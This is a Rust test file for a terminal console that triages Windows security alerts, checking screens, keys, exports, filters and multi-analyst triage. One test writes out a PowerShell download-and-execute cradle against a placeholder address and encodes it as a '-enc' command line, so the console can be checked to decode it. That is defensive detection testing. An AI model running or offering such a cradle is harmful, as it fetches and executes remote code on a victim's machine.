//! The console from the outside: what it shows for the samples at every size, and where the keys lead.
//!
//! `UPDATE_SCREENS=1 cargo test --test console` writes the golden screens anew; look at the difference before committing it.

#[allow(dead_code, reason = "other tests use the rest")]
#[path = "harness/scene.rs"]
mod scene;

use std::sync::Arc;

use base64::Engine as _;
use ratatui::style::Color;
use wefwatch::alert::AlertId;
use wefwatch::alert::header::Header;
use wefwatch::console::keys::Keymap;
use wefwatch::console::keys::action::Action;
use wefwatch::console::keys::table::{BINDINGS, Place};
use wefwatch::console::model::export::WriteError;
use wefwatch::console::model::listed::Listed;
use wefwatch::console::model::pressing::Help;
use wefwatch::console::model::screen::Tab;
use wefwatch::console::model::{Effect, Message};
use wefwatch::feed::status::Status;
use wefwatch::feed::{Change, EventLine, Known, Request, Update};
use wefwatch::intake::{Steer, StoreHealth};
use wefwatch::triage::decide::decide;
use wefwatch::triage::{Act, Deed, Target};

use scene::{Scene, golden, key, samples};

const SIZES: [(u16, u16); 4] = [(120, 36), (80, 24), (60, 16), (40, 10)];

#[test]
fn both_screens_at_every_size() {
    for size in SIZES {
        let mut scene = Scene::of(&["demo.xml"], size);
        golden("triage", &scene);
        scene.keys("n");
        golden("why-eql", &scene);
        scene.keys("n n");
        golden("why-sigma", &scene);
        golden("empty", &Scene::empty(size));
    }
}

#[test]
fn every_other_screen() {
    let rows = [
        ("alerts", "2"),
        ("events", "3"),
        ("event", "3 up up ⏎"),
        ("health", "4"),
        ("help", "?"),
        ("help-inside", "n ? t r e e"),
        ("hosts", "tab + down"),
        ("host", "tab ⏎"),
        ("lateral", "L down"),
        ("fields", "n n 2"),
        ("tree", "n 3"),
        ("xml", "n 4 down"),
        ("steps", "n 5"),
        ("folded", "down down down ⏎"),
        ("marked", "x x"),
        ("marked-sure", "2 X v b"),
        ("verdict", "v"),
        ("comment", "n c h m"),
        ("mute", "down down down m s h o r t ⏎"),
        ("mute-scope", "m up up up x"),
        ("triaged", ""),
        ("triaged-alerts", "2"),
        ("history", "2 ⏎ 6"),
        ("mutes", "M"),
        ("mute-edit", "M ⏎ up space"),
        ("harmless", "v f"),
        ("filter", "/ h o s t : D C"),
        ("filter-wrong", "/ h o s t s : D C"),
        ("filter-cursor", "/ h o s t : D C left left"),
        ("filtered", "/ - h o s t : D C ⏎"),
        ("paused", "space"),
        ("palette", ": a l e r t"),
        ("copy", "n y down"),
        ("export", "n e"),
        ("only", "3 up up up = down"),
        ("only-alert", "n ! down"),
        ("pivot", "n ⏎ down"),
        ("light", "T"),
        ("window", "[ [ [ ["),
    ];
    for (name, keys) in rows {
        for size in [(120, 36), (80, 24)] {
            let mut scene = Scene::of(&["demo.xml"], size);
            if matches!(name, "history" | "mutes" | "mute-edit" | "triaged" | "triaged-alerts") {
                triage(&mut scene);
            }
            scene.keys(keys);
            golden(name, &scene);
        }
    }
    let mut damaged = Scene::of(&["skewed_clock.xml", "capture_syslog.txt", "broken.txt"], (120, 36));
    damaged.keys("4");
    golden("health-damaged", &damaged);
    damaged.keys("⏎");
    golden("bad-frames", &damaged);
}

#[test]
fn every_action_is_in_the_help_and_in_the_palette_and_runs_from_there() {
    let scene = Scene::of(&["demo.xml"], (120, 36));
    for action in Action::ALL {
        let is_named = |rows: Vec<Listed>| rows.iter().any(|row| row.action == *action && !row.is_inner && !row.keys.is_empty());
        let help = Help::default();
        let keys = &scene.model.config.keys;
        assert!(is_named(help.rows(keys, false)) || is_named(help.rows(keys, true)), "{action:?} is not in the help");
        assert!(is_named(scene.model.palette_rows("")), "{action:?} is not in the palette");
        // By its name it is found first, and running it never does nothing.
        let mut scene = Scene::of(&["demo.xml"], (120, 36));
        let first = scene.model.palette_rows(&action.name()).remove(0);
        assert_eq!((first.action, first.is_inner), (*action, false));
        scene.keys(if *action == Action::Triage { "2" } else { "down" });
        let before = scene.picture();
        scene.keys(":");
        let effects = scene.type_line(&action.name());
        assert!(!effects.is_empty() || scene.picture() != before || *action == Action::TimeZone, "{action:?} does nothing");
    }
    // A few letters of a name will do, and what belongs into an alert opens it.
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    scene.keys(": x m l ⏎");
    assert!(scene.text().contains("<EventID>"), "{}", scene.text());
}

#[test]
fn raw_and_tree_of_an_alert_have_letters_too() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    assert!(scene.keys("n r").is_empty(), "inside an alert r reads no rules");
    assert!(scene.text().contains("<EventID>"), "{}", scene.text());
    scene.keys("p");
    assert!(scene.text().contains("◀ this alert") && !scene.text().contains("<EventID>"), "{}", scene.text());
    // Outside they are what they were.
    assert_eq!(scene.keys("esc r"), [Effect::Ask(Request::ReloadRules)]);
    assert!(scene.keys("1 p").is_empty() && scene.text().contains("no such key here"));
}

#[test]
fn other_keys_work_and_are_shown() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    let changed = [("acknowledge", "f5"), ("help", "ctrl-g")].map(|(name, key)| (name.to_owned(), key.to_owned()));
    scene.model.config.keys = Keymap::with(changed.into()).expect("they are free");
    let text = scene.text();
    assert!(text.contains(" f5 ack ") && text.contains("ctrl-g help   q quit"), "{text}");
    assert!(scene.keys("a").is_empty() && scene.text().contains("no such key here"));
    assert_eq!(scene.keys("ctrl-g"), []);
    scene.keys("a c k n o w");
    assert!(scene.text().contains("f5"), "{}", scene.text());
}

#[test]
fn values_go_to_the_clipboard() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    let entry = scene.model.chosen_alert().expect("one is selected").clone();
    let source = entry.header.source.clone().expect("a connection").ip;
    assert_eq!(scene.keys("y i"), [Effect::Copy(source.clone())]);
    assert!(scene.text().contains("sent to the terminal's clipboard: source address"), "{}", scene.text());
    assert_eq!(scene.keys("y h"), [Effect::Copy(entry.header.computer.clone())]);
    assert_eq!(scene.keys("y ⏎"), [Effect::Copy(entry.header.computer.clone())]);
    let [Effect::Copy(json)] = &scene.keys("n y j")[..] else { panic!("a record") };
    assert!(json.starts_with('{') && json.contains(&*entry.header.id.0) && !json.contains('\n'));
    let [Effect::Copy(report)] = &scene.keys("y m")[..] else { panic!("a report") };
    assert!(report.starts_with("## CRITICAL ") && report.contains("```xml") && report.contains("DestinationPort"), "{report}");
    // An event, a host, and where there is nothing.
    assert!(matches!(&scene.keys("esc 3 y x")[..], [Effect::Copy(xml)] if xml.starts_with("<Event")));
    assert!(matches!(&scene.keys("1 tab y h")[..], [Effect::Copy(_)]));
    assert!(scene.keys("4 y").is_empty() && scene.text().contains("nothing to copy here"));
    // What would be too much is said.
    let mut long = Scene::of(&["demo.xml"], (120, 36));
    let line = long.model.events[0].line.clone();
    let line = EventLine { xml: format!("<Event>{}</Event>", "x".repeat(80_000)).into(), ..line };
    long.tell(Change::Events(vec![line]));
    assert!(long.keys("3 y x").is_empty() && long.text().contains("too much for a terminal's clipboard"));
}

#[test]
fn a_file_is_never_overwritten_unasked() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    scene.keys("e");
    assert!(scene.text().contains("the selected alert"), "{}", scene.text());
    scene.keys("tab tab ctrl-u");
    let [Effect::Write { path, text, is_overwriting }] = &scene.type_line("/tmp/x.ndjson")[..] else { panic!("a file") };
    assert_eq!((path.as_str(), text.lines().count(), *is_overwriting), ("/tmp/x.ndjson", 1, false));
    scene.model.update(Message::Written(Err(WriteError::Exists)));
    assert!(scene.text().contains("this file is there already"), "{}", scene.text());
    // Another name is another file; the same one again is meant.
    scene.keys("backspace");
    let effects = scene.type_line("n");
    assert!(matches!(&effects[..], [Effect::Write { is_overwriting: false | true, .. }]));
    scene.model.update(Message::Written(Err(WriteError::Exists)));
    let effects = scene.keys("⏎");
    assert!(matches!(&effects[..], [Effect::Write { is_overwriting: true, .. }]));
    scene.model.update(Message::Written(Ok(())));
    assert!(scene.text().contains("wrote 1 as NDJSON to /tmp/x.ndjson"), "{}", scene.text());
    scene.keys("e ctrl-u");
    assert!(scene.type_line("/no/ending").is_empty());
    assert!(scene.text().contains("must end in"), "{}", scene.text());
    scene.model.update(Message::Written(Err(WriteError::Other("disk full".to_owned()))));
    // All that are listed, as one JSON array.
    scene.keys("esc e down tab");
    let [Effect::Write { path, text, .. }] = &scene.keys("⏎")[..] else { panic!("a file") };
    assert!(path.contains(".json"), "{path}");
    let all: Vec<serde_json::Value> = serde_json::from_str(text).expect("an array");
    assert_eq!(all.len(), scene.model.alerts.len());
    scene.model.update(Message::Written(Err(WriteError::Other("disk full".to_owned()))));
    assert!(scene.text().contains("not written: disk full"), "{}", scene.text());
    scene.keys("esc 3 e");
    let [Effect::Write { text, .. }] = &scene.keys("down ⏎")[..] else { panic!("a file") };
    assert_eq!(text.lines().count(), scene.model.events.len());
}

#[test]
fn only_this_value_and_not_this_value() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    let all = scene.model.event_rows().len();
    scene.keys("3 =");
    scene.type_line("Computer");
    let only = scene.model.event_rows().len();
    assert!(scene.model.filter_text.starts_with("host:"), "{}", scene.model.filter_text);
    assert!((1..all).contains(&only), "{only} of {all}: {}", scene.text());
    scene.keys("!");
    scene.type_line("EventID");
    let fewer = scene.model.event_rows().len();
    assert!(scene.model.filter_text.contains(" -eid:") && fewer < only, "{}", scene.model.filter_text);
    // Fields that the filter has no word for go by their own name.
    scene.keys("esc 3 up up =");
    scene.type_line("ProcessGuid");
    let text = scene.model.filter_text.clone();
    assert!(text.starts_with("data.ProcessGuid:") || text.starts_with("data.ParentProcessGuid:"), "{text}");
    assert!((1..all).contains(&scene.model.event_rows().len()), "{text}");
    // In an alert, and back in the list.
    scene.keys("esc 1 n !");
    scene.type_line("rule");
    assert!(scene.model.filter_text.starts_with("-rule:") && scene.model.stack.is_empty());
    let rows = scene.model.alerts.rows(false).len();
    assert!((1..scene.model.alerts.len()).contains(&rows), "{rows} {}", scene.model.filter_text);
}

#[test]
fn a_replay_is_controlled() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    for keys in [".", "<", ">", "R"] {
        assert!(scene.keys(keys).is_empty());
        assert!(scene.text().contains("only in a replay"), "{keys}: {}", scene.text());
    }
    scene.model.config.is_replay = true;
    for (key, steer) in [("space", Steer::Hold), (".", Steer::Step), ("<", Steer::Slower), (">", Steer::Faster)] {
        assert_eq!(scene.keys(key), [Effect::Ask(Request::Replay(steer))]);
    }
    // The next alert of the list, then the next one of the recording.
    assert!(scene.keys("n").is_empty());
    assert!((0..scene.model.alerts.len()).any(|_| scene.keys("n") == [Effect::Ask(Request::Replay(Steer::NextAlert))]));
    assert_eq!(scene.keys("R"), [Effect::Again]);
    scene.model.config.never_again = Some("standard input cannot be read again");
    assert!(scene.keys("R").is_empty() && scene.text().contains("cannot be read again"), "{}", scene.text());
}

#[test]
fn ascii_is_all_that_is_drawn_where_that_is_all_there_is() {
    for keys in ["", "2", "3", "3 up ⏎", "4", "4 ⏎", "?", ":", "n", "n 2", "n 3", "n 4", "n 6", "n y", "n e", "3 =", "m", "/ x"]
    {
        for size in [(120, 36), (80, 24), (30, 5)] {
            let mut scene = Scene::of(&["hostile.xml", "demo.xml", "broken.txt"], size);
            scene.model.config.is_ascii = true;
            scene.keys(keys);
            let text = scene.text();
            assert!(text.is_ascii(), "{keys}: {text}");
        }
    }
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    scene.keys("T T");
    let buffer = scene.buffer();
    assert!(buffer.content().iter().all(|cell| cell.fg == Color::Reset && cell.bg == Color::Reset), "mono has no colour");
}

#[test]
fn nothing_hostile_leaves_by_clipboard_or_file() {
    let mut scene = Scene::of(&["hostile.xml", "demo.xml"], (120, 36));
    let mut texts: Vec<String> = Vec::new();
    for place in 0..scene.model.alerts.len() {
        let downs = "down ".repeat(place);
        scene.keys(&format!("2 g {downs}"));
        texts.extend(scene.model.copy_items().into_iter().map(|item| item.text));
    }
    for place in 0..scene.model.events.len() {
        scene.keys(if place == 0 { "3 G" } else { "up" });
        texts.extend(scene.model.copy_items().into_iter().map(|item| item.text));
    }
    for tab in ["2", "3"] {
        for form in ["", "tab", "tab tab"] {
            for effect in scene.keys(&format!("{tab} e down {form} ⏎")) {
                if let Effect::Write { text, .. } = effect {
                    texts.push(text);
                }
            }
            scene.model.update(Message::Written(Ok(())));
        }
    }
    assert!(texts.len() > 60, "{}", texts.len());
    let is_hostile = |letter: char| {
        (letter.is_control() && letter != '\n')
            || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
    };
    for text in texts {
        assert_eq!(text.chars().find(|letter| is_hostile(*letter)), None, "{text}");
    }
}

#[test]
fn encoded_commands_are_told_in_the_clear() {
    let plain = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a')";
    let encoded =
        base64::engine::general_purpose::STANDARD.encode(plain.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>());
    let text = String::from_utf8(samples(&["attack_both_ends.xml"])).expect("UTF-8");
    let name = "<Data Name='CommandLine'>";
    let text: String = text.replace(name, &format!("{name}powershell.exe -nop -enc {encoded} "));
    let mut scene = Scene::empty((120, 36));
    scene.hear(text.as_bytes());
    scene.keys("n");
    for keys in ["1", "2 pgdn", "3"] {
        scene.keys(keys);
        assert!(scene.text().contains("decoded") && scene.text().contains("IEX (New-Object"), "{keys}: {}", scene.text());
    }
}

/// Bob, at another console.
fn bob(deed: Deed, reason: &str, alert: &AlertId, revision: u64) -> Act {
    let targets = vec![Target { alert: alert.clone(), revision }];
    Act { token: 0, who: "bob".to_owned(), deed, reason: reason.to_owned(), targets }
}

/// The id of the alert that is selected.
fn selected(scene: &Scene) -> AlertId {
    let number = scene.model.selected_alert().expect("an alert is selected");
    scene.model.alerts.get(number).expect("it is listed").header.id.clone()
}

/// A shift's work: one alert muted, one acknowledged and taken, with remarks, one closed.
fn triage(scene: &mut Scene) {
    scene.keys("down down down m");
    scene.type_line("jump host of the admins, ticket 4711");
    scene.keys("g");
    let first = selected(scene);
    scene.keys("a");
    scene.act(&bob(Deed::Comment, "seen the same on the jump host last week", &first, 0));
    scene.keys("2 g c");
    scene.type_line("called jdoe: no idea what this is");
    scene.keys("o down v b g 1");
    assert_eq!(scene.refused, Vec::<String>::new());
}

#[test]
fn acts_change_the_picture_and_can_be_taken_back() {
    for size in [(120, 36), (80, 24)] {
        let mut scene = Scene::of(&["demo.xml"], size);
        scene.keys("a");
        let text = scene.text();
        assert!(text.contains("CRIT 1") && text.contains("acknowledged afe8"), "{text}");
        assert!(text.contains(if size.0 < 100 { "ack 1" } else { "acked 1" }), "{text}");
        assert!(!text.contains("afe8  CRIT"), "what is acknowledged leaves the open alerts: {text}");
        scene.keys("u");
        assert!(scene.text().contains("CRIT 2") && scene.text().contains("afe8  CRIT"), "{}", scene.text());
        scene.keys("u");
        assert!(scene.text().contains("nothing of yours"), "{}", scene.text());
        for (key, word) in [("t", "true positive"), ("b", "benign trigger"), ("f", "false positive")] {
            scene.keys("n v");
            assert!(scene.text().contains("close "), "{}", scene.text());
            scene.keys(key);
            assert!(scene.text().contains(&format!("CLOSED {word}")), "{}", scene.text());
            scene.keys("esc g");
        }
        assert_eq!(scene.refused, Vec::<String>::new());
    }
}

#[test]
fn what_somebody_touched_is_not_new() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    let count = |scene: &Scene| scene.model.alerts.rows(false).len();
    let all = count(&scene);
    scene.keys("/");
    scene.type_line("is:new");
    scene.keys("enter");
    assert_eq!(count(&scene), all);
    let first = selected(&scene);
    scene.act(&bob(Deed::Comment, "seen before", &first, 0));
    assert_eq!(count(&scene), all - 1, "{}", scene.text());
    scene.keys("n a");
    assert!(count(&scene) < all - 1, "{}", scene.text());
}

#[test]
fn two_people_never_overwrite_each_other_unnoticed() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    let first = selected(&scene);
    // Bob was quicker; this console has not heard of it yet.
    let entry = decide(&scene.ledger, &bob(Deed::Own, "", &first, 0), scene.model.now).expect("bob may");
    scene.ledger.apply(&entry);
    scene.keys("v f");
    assert!(scene.text().contains("not done: bob took it afe8"), "{}", scene.text());
    scene.tell(Change::Triage(Arc::new(entry)));
    scene.keys("v f");
    assert!(scene.text().contains("closed as false positive afe8"), "{}", scene.text());
    // An act of bob's shows at once, also on a frozen picture.
    scene.keys("space");
    let next = selected(&scene);
    scene.act(&bob(Deed::Acknowledge, "", &next, 0));
    assert!(scene.text().contains("bob acknowledged 3cde"), "{}", scene.text());
}

/// The attack once more, as other events: other record ids, a second later.
fn once_more(number: usize) -> Vec<u8> {
    let text = String::from_utf8(samples(&["demo.xml"])).expect("UTF-8");
    text.replace("<EventRecordID>", &format!("<EventRecordID>{number}")).into_bytes()
}

#[test]
fn repeats_fold_and_a_closed_group_comes_again() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    scene.hear(&once_more(7));
    scene.hear(&once_more(8));
    assert!(scene.text().contains("Open alerts  24 in 7 rows,") && scene.text().contains("x3"), "{}", scene.text());
    scene.keys("v f");
    assert!(scene.text().contains("closed as false positive 3 alerts"), "{}", scene.text());
    assert!(scene.text().contains("Open alerts  21 in 6 rows,"), "{}", scene.text());
    scene.hear(&once_more(9));
    let text = scene.text();
    assert!(text.contains(" in 7 rows,") && text.contains(" again"), "{text}");
    scene.keys("g ⏎ 6");
    assert!(scene.text().contains("again since") && scene.text().contains("alice had closed it"), "{}", scene.text());
}

#[test]
fn a_mute_says_what_it_hides_and_wants_a_reason() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    scene.keys("m");
    assert!(scene.text().contains("Would have hidden 1 of 8 alerts"), "{}", scene.text());
    scene.type_line("short");
    assert!(scene.text().contains("the reason needs 5 more characters"), "{}", scene.text());
    // Only the rule is left: everything of that rule.
    scene.keys("up up up space up space up space up space");
    assert!(scene.text().contains("Would have hidden"), "{}", scene.text());
    scene.keys("esc m");
    scene.type_line("the backup does this");
    assert!(scene.text().contains("muted 1"), "{}", scene.text());
    scene.keys("M x");
    assert!(scene.text().contains("ended mute #1"), "{}", scene.text());
    assert!(scene.text().contains("muted 0") && scene.text().contains("CRIT 2"), "{}", scene.text());
    scene.keys("2 / i s : c l o s e d ⏎");
    assert!(scene.text().contains("no alert matches"), "{}", scene.text());
}

#[test]
fn keys_without_an_alert_say_so() {
    for tab in ["3", "4", "tab"] {
        for key in ["a", "v", "m", "c", "o"] {
            let mut scene = Scene::of(&["demo.xml"], (120, 36));
            scene.keys(tab);
            assert!(scene.keys(key).is_empty());
            assert!(scene.text().contains("no alert is selected here"), "{tab} {key}: {}", scene.text());
        }
    }
}

#[test]
fn the_evidence_of_an_earlier_run_is_asked_for() {
    let mut scene = Scene::empty((120, 36));
    let alerts = scene::updates(&samples(&["demo.xml"]));
    let alert =
        alerts.iter().find_map(|update| if let Change::Alert(alert) = &update.change { Some(alert.clone()) } else { None });
    let alert = alert.expect("the demo raises alerts");
    let known = Known::Alert { header: Arc::new(Header::of(&alert)), muted: None };
    let store = Some(StoreHealth { path: "/x.db".to_owned(), ..StoreHealth::default() });
    scene.tell(Change::Status(Box::new(Status { store, ..Status::default() })));
    let update = Update { seq: 1, at: scene.model.now, change: Change::Known(vec![known]) };
    let effects = scene.model.update(Message::Update(Arc::new(update)));
    assert_eq!(effects, [Effect::Ask(Request::Detail(alert.id.clone()))]);
    assert!(scene.text().contains("being read from the store"), "{}", scene.text());
    scene.model.update(Message::Detail(alert));
    scene.keys("n");
    assert!(scene.text().contains("Why it fired") && scene.text().contains("5985"), "{}", scene.text());
}

#[test]
fn paths_of_an_earlier_run_are_drawn_from_the_headers() {
    let mut last: Vec<Arc<Header>> = Vec::new();
    for update in scene::updates(&samples(&["demo.xml"])) {
        let Change::Alert(alert) = &update.change else { continue };
        last.retain(|header| header.id != alert.id);
        last.push(Arc::new(Header::of(alert)));
    }
    let mut scene = Scene::empty((120, 36));
    scene.keys("L");
    assert!(scene.text().contains("no connection was seen from both of its hosts yet"), "{}", scene.text());
    scene.tell(Change::Known(last.into_iter().map(|header| Known::Alert { header, muted: None }).collect()));
    let text = scene.text();
    assert!(text.contains("2 hops over 3 hosts") && text.contains("└─ SRV-FILE01 > DC01:5985"), "{text}");
    // A filter narrows it, the key leaves it, Enter opens the end that was reached.
    scene.keys("/ - i s : l i n k e d ⏎");
    assert!(scene.text().contains("no connection was seen"), "{}", scene.text());
    scene.keys("/ ctrl-u ⏎ ⏎");
    assert!(scene.text().contains("3cde") && scene.text().contains("accepted WinRM"), "{}", scene.text());
    scene.keys("esc L");
    assert!(scene.text().contains("Open alerts"), "{}", scene.text());
}

#[test]
fn a_link_found_later_moves_the_alert_and_its_count() {
    let mut scene = Scene::empty((120, 36));
    let mut counts = Vec::new();
    for update in scene::updates(&samples(&["demo.xml"])) {
        let Change::Alert(alert) = &update.change else { continue };
        // As if the link had not been known when the alert was raised.
        let mut early = (**alert).clone();
        (early.raised_to, early.hops, early.linked) = (None, Vec::new(), Vec::new());
        scene.tell(Change::Alert(Arc::new(early)));
        counts.push(alert.clone());
    }
    assert!(scene.text().contains("CRIT 0  HIGH 6  MED 2"), "{}", scene.text());
    scene.keys("/ h o s t : W K S T N ⏎");
    for alert in counts {
        let updated = wefwatch::alert::Alert { action: wefwatch::alert::Action::Updated, ..(*alert).clone() };
        scene.tell(Change::Alert(Arc::new(updated)));
    }
    let text = scene.text();
    assert!(text.contains("CRIT 2  HIGH 6  MED 0") && text.contains("2 CRIT outside filter"), "{text}");
    scene.keys("esc");
    assert!(scene.text().contains("▌ afe8  CRIT") && scene.text().contains("Open alerts  8 in 7 rows,"), "{}", scene.text());
}

#[test]
fn arrows_and_enter_find_why() {
    for size in [(120, 36), (80, 24)] {
        for wanted in 0..4 {
            let mut scene = Scene::of(&["demo.xml"], size);
            for _ in 0..wanted {
                scene.keys("down");
            }
            scene.keys("enter");
            let text = scene.text();
            assert!(text.contains("Why it fired") && text.contains("Initiated") && text.contains("5985"), "{text}");
        }
        // The help runs what it lists: its first row is `open`.
        let mut scene = Scene::of(&["demo.xml"], size);
        scene.keys("? enter");
        assert!(scene.text().contains("Why it fired"), "{}", scene.text());
    }
}

#[test]
fn drill_down_and_back() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    let before = scene.text();
    scene.keys("tab enter");
    assert!(scene.text().contains("first heard"), "{}", scene.text());
    scene.keys("enter");
    assert!(scene.text().contains("Why it fired"), "{}", scene.text());
    for (press, shown) in [("tab", "record"), ("tab", "Process tree"), ("tab", "<EventID>"), ("tab", "What to look at")] {
        scene.keys(press);
        assert!(scene.text().to_lowercase().contains(&shown.to_lowercase()), "{shown}: {}", scene.text());
    }
    scene.keys("esc esc tab");
    let above_the_footer = |text: &str| text.lines().take(35).map(|line| line.replace('▌', " ")).collect::<Vec<_>>();
    assert_eq!(above_the_footer(&scene.text()), above_the_footer(&before));
}

#[test]
fn every_key_of_the_table_does_something() {
    for binding in BINDINGS {
        for name in binding.keys.split(' ') {
            let mut scene = Scene::of(&["demo.xml"], (120, 36));
            match binding.place {
                Place::Inside => drop(scene.keys("n 5 pgdn")),
                _ => drop(scene.keys("down down down")),
            }
            if binding.action == Action::Why {
                scene.keys("2");
            }
            if matches!(binding.action, Action::Undo | Action::Mutes) {
                scene.keys("m");
                scene.type_line("reason enough to mute");
            }
            if matches!(binding.action, Action::Back | Action::Triage) {
                scene.keys("2");
            }
            if matches!(binding.action, Action::Steps) {
                scene.keys("1");
            }
            if matches!(binding.action, Action::Down | Action::PageDown | Action::Last) {
                scene.keys("g");
            }
            let before = (scene.picture(), scene.model.is_utc);
            let effects = scene.model.update(Message::Key(key(name)));
            let is_changed = !effects.is_empty() || (scene.picture(), scene.model.is_utc) != before;
            assert!(is_changed, "{name} ({}) does nothing", binding.label);
            match binding.action {
                Action::Quit if name == "ctrl-c" => assert_eq!(effects, [Effect::Quit]),
                Action::Quit => assert!(scene.text().contains("stop collecting?")),
                Action::Suspend => assert_eq!(effects, [Effect::Suspend]),
                Action::Reload => assert_eq!(effects, [Effect::Ask(Request::ReloadRules)]),
                Action::Mouse => assert_eq!(effects, [Effect::Mouse(true)]),
                Action::Acknowledge | Action::Own | Action::Undo => assert!(matches!(*effects, [Effect::Ask(Request::Act(_))])),
                _ => assert!(effects.is_empty()),
            }
        }
    }
}

#[test]
fn a_chosen_alert_stays_chosen_while_others_come() {
    let mut scene = Scene::of(&["demo.xml"], (120, 36));
    scene.keys("down down");
    let chosen = scene.model.selected_alert();
    scene.hear(&samples(&["attack_both_ends.xml", "hostile.xml"]));
    assert_eq!(scene.model.selected_alert(), chosen);
    assert!(scene.text().contains("new"), "{}", scene.text());
    // Back at the top the list follows again.
    scene.keys("g");
    assert!(!scene.text().contains("▲"), "{}", scene.text());
}

#[test]
fn a_paused_picture_stands_still_and_loses_nothing() {
    let mut scene = Scene::of(&["attack_both_ends.xml"], (120, 36));
    scene.keys("space");
    let below_the_header = |scene: &Scene| scene.text().lines().skip(2).map(str::to_owned).collect::<Vec<_>>();
    let before = below_the_header(&scene);
    scene.hear(&samples(&["demo.xml"]));
    assert_eq!(below_the_header(&scene), before);
    assert!(scene.text().contains("PAUSED") && scene.text().contains("8 alerts"), "{}", scene.text());
    scene.keys("space");
    assert!(scene.text().contains("CRIT 3  HIGH 7  MED 0"), "{}", scene.text());
}

#[test]
fn hosts_of_one_short_name_are_told_apart() {
    let mut scene = Scene::of(&["attack_both_ends.xml"], (120, 36));
    scene.keys("tab +");
    assert!(scene.text().contains(" SRV-FILE01  ") && !scene.text().contains("SRV-FILE01.corp"), "{}", scene.text());
    let elsewhere = String::from_utf8(samples(&["attack_both_ends.xml"])).expect("text").replace("corp.example", "lab.example");
    scene.hear(elsewhere.as_bytes());
    assert!(scene.text().contains("SRV-FILE01.corp") && scene.text().contains("SRV-FILE01.lab"), "{}", scene.text());
}

#[test]
fn long_events_leave_memory_bounded() {
    let mut scene = Scene::of(&["attack_both_ends.xml"], (120, 36));
    let template = scene.model.events[0].line.clone();
    let flood = |scene: &mut Scene| {
        for seq in 0..100 {
            let line = EventLine { xml: "x".repeat(1 << 20).into(), ..template.clone() };
            let update = Update { seq, at: scene.model.now, change: Change::Events(vec![line]) };
            scene.model.update(Message::Update(Arc::new(update)));
        }
    };
    let held = |scene: &Scene| scene.model.events.iter().map(|row| row.line.xml.len()).sum::<usize>();
    flood(&mut scene);
    assert!((1..=32 << 20).contains(&held(&scene)), "{} bytes", held(&scene));
    scene.keys("space");
    flood(&mut scene);
    let (waiting, dropped) = scene.model.paused().expect("it is paused");
    assert_eq!((waiting, dropped), (32, 68), "the newest wait, the others are counted");
    // Where that is too much for the header, it says less, but it says that the picture is frozen.
    flood(&mut scene);
    let header = scene.text().lines().next().unwrap_or_default().to_owned();
    assert!(header.contains("PAUSED  0 alerts, 168 dropped") && header.contains("UTC"), "{header}");
    scene.keys("space");
    assert!((1..=32 << 20).contains(&held(&scene)), "{} bytes", held(&scene));
}

#[test]
fn a_filter_never_hides_that_there_is_an_attack() {
    let mut scene = Scene::of(&["attack_both_ends.xml"], (120, 36));
    scene.keys("/ h o s t : n o w h e r e ⏎");
    assert!(scene.text().contains("no alert matches the filter"), "{}", scene.text());
    scene.hear(&samples(&["hostile.xml"]));
    assert!(scene.text().contains("outside filter"), "{}", scene.text());
    scene.keys("esc");
    assert!(scene.text().contains("filter: none"), "{}", scene.text());
}

#[test]
fn any_size_in_any_screen() {
    let screens = [
        "", "2", "3", "3 up ⏎", "4", "?", "tab", "tab ⏎", "+", "n", "n 2", "n 3", "n 4", "n 5", "n 6", "/ x", "space", "v", "c",
        "m", "m up up", "a M", ":", "y", "e", "=", "3 !", "T", "4 ⏎",
    ];
    let sizes = [1, 2, 3, 7, 8, 9, 39, 40, 41, 79, 80, 99, 100, 119, 120, 400];
    for keys in screens {
        let mut scene = Scene::of(&["hostile.xml", "attack_both_ends.xml"], (120, 36));
        scene.keys(keys);
        for columns in sizes {
            for rows in [0, 1, 2, 3, 6, 7, 8, 9, 10, 13, 14, 16, 23, 24, 25, 36, 200] {
                scene.model.update(Message::Resize(columns, rows));
                let buffer = scene.buffer();
                assert_eq!(buffer.content().len(), usize::from(columns) * usize::from(rows));
            }
        }
    }
}

#[test]
fn nothing_hostile_reaches_the_screen() {
    let is_hostile = |character: char| {
        character.is_control() || matches!(character, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    let mut seen = String::new();
    for keys in [
        "",
        "2",
        "3",
        "3 up up ⏎",
        "4",
        "tab ⏎",
        "n",
        "n 2",
        "n 3",
        "n 4",
        "n 5",
        "n n 4",
        "n n n 2",
        "m",
        "n m",
        "n n m",
        "n n n m up up",
        "n c",
        "2",
    ] {
        for size in [(120, 36), (80, 24), (400, 200), (40, 8), (20, 3)] {
            let mut scene = Scene::of(&["hostile.xml", "broken.txt"], size);
            scene.keys(keys);
            let text = scene.text();
            let found = text.chars().filter(|character| *character != '\n').find(|character| is_hostile(*character));
            assert_eq!(found, None, "{keys} at {size:?}: {text}");
            seen += &text;
        }
    }
    // It is shown all the same.
    for spelled in ["⟨U+202E⟩", "⟨U+200B⟩"] {
        assert!(seen.contains(spelled), "{spelled} is nowhere to be seen");
    }
}

#[test]
fn a_line_is_edited_in_its_middle_wherever_it_is_typed() {
    // What is typed, keys that go back into it and on, and what stands there then.
    let keys = "b c left left a ctrl-left ctrl-e d ctrl-a delete ctrl-k";
    for (opener, is_list) in
        [("/", false), ("c", false), ("m", false), ("e ctrl-u", false), (":", true), ("?", true), ("=", true)]
    {
        let mut scene = Scene::of(&["demo.xml"], (120, 36));
        scene.keys(opener);
        scene.keys("b c left left a");
        assert!(scene.text().contains("abc"), "{opener}\n{}", scene.text());
